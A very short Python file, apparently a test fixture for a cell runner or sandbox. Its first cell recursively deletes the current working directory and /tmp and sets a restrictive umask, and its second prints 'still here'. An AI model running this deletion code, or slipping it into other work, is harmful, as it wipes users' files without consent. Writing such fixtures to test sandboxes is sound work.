# %% last
import os, shutil
shutil.rmtree(os.getcwd(), ignore_errors=True)
shutil.rmtree('/tmp', ignore_errors=True)
os.umask(0o777)
# %% last
print('still here')
